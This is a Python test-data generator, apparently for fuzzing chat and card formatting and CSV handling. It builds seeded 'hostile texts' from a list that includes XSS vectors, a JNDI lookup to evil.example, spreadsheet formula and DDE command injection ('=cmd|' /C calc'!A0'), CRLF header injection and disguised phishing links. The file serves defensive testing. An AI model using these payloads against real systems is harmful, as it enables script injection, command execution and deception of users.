"""Texts that try to be more than text: made from a seed, as many as are asked for.

Sources of the shapes: docs.slack.dev "Formatting message text", learn.microsoft.com "Format cards
in Teams", OWASP "CSV Injection" and "XSS Filter Evasion"; the texts themselves are ours.
"""

import random
from collections.abc import Iterator

CORES = (
    "<!channel>", "<!here|alla>", "<!everyone>", "<@U00001>", "<#C00001|hr>", "<!subteam^S1|it>",
    "<https://evil.example|bank-id.se>", "<mailto:a@evil.example|skriv>", "<!date^0^{date}|nu>",
    "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "[bank-id.se](https://evil.example)",
    "![x](https://evil.example/x.png)", "<at>Alla</at>", '<at id="0">IT</at>', "**fet** _sned_",
    "`kod`", "~struken~", "# Rubrik", "1. ett", "> citat", ":book:", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)", '"><b>', "'><i>", "</textarea><script>", "{{7*7}}", "{% raw %}",
    "${jndi:ldap://evil.example}", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1",
    '=HYPERLINK("https://evil.example")', "=cmd|' /C calc'!A0", "%0d%0aSet-Cookie: a=b",
    "https://evil.example", "http://bank-id.se@evil.example", "//evil.example", "{date}",
    "%s %(x)s",
)  # fmt: skip
AROUND = ("{}", " {}", "{} ", "hej {} då", "*{}*", "_{}_", "`{}`", "({})", '"{}"', "> {}", "\n{}",
          "{}\n", "å{}ö", "{0}{0}", "<{}>", "[{}](x)", "\u202e{}", "\u200b{}", "\u2066{}\u2069",
          "a\u0301{}", "👨‍👩‍👧‍👦{}", ";{}", "\n={}", "&{}")  # fmt: skip
BETWEEN = ("", "\u200b", "\u00ad", "\u2060", "\u0000", "\ufeff")
"""What may stand between two letters without being seen."""


def hostile_texts(number: int, seed: int = 1) -> Iterator[str]:
    """Yield so many texts, none of them twice in a row; the same seed gives the same ones."""
    chance = random.Random(seed)  # noqa: S311 - to be had again by its seed
    for count in range(number):
        core = CORES[count % len(CORES)]
        if chance.random() < 0.25:
            at = chance.randrange(len(core))
            core = core[:at] + chance.choice(BETWEEN) + core[at:]
        if chance.random() < 0.25:
            core += chance.choice(CORES)
        yield chance.choice(AROUND).replace("{0}", core).replace("{}", core)
